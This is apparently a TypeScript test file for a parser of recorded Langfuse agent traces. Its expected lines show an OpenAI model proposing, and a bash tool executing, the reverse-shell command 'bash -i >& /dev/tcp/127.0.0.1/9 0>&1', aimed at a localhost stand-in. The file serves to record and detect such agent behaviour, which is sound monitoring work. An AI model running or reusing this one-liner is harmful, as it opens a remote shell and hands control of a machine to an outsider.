import { fixture, line, tell } from '../../test/support/recorded';

const { events, ignored } = tell(fixture('langfuse/suspicious-full'));

it('reads tools and generations', () => {
  const told = events.map(line).filter((one) => one.includes('/dev/tcp/127.0.0.1/9'));
  expect(told.sort()).toEqual([
    "OpenAI.chat completed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' (exit 1)",
    "OpenAI.chat proposed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'",
    "bash completed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' (ok, exit 1)",
  ]);
  expect(ignored).toEqual([{ dialect: 'langfuse', reason: 'internal', count: 1 }]);
});

it('adds cached tokens to the input, which it counts apart', () => {
  const calls = events.filter(({ action }) => action.type === 'model.call').map(({ action }) => action);
  expect(calls[0]).toEqual({
    type: 'model.call',
    model: 'gpt-4.1',
    inputTokens: 5200,
    cachedInputTokens: 4096,
    outputTokens: 74,
  });
});

it('keys by the trace, whose session may be on the root span alone', () => {
  expect(new Set(events.map(({ scope }) => scope)).size).toBe(1);
  expect(events[0]?.scope).toMatch(/^trace:/);
  expect(events[0]).toMatchObject({ session: 'session-0001', user: 'langfuse:user-0001' });
});
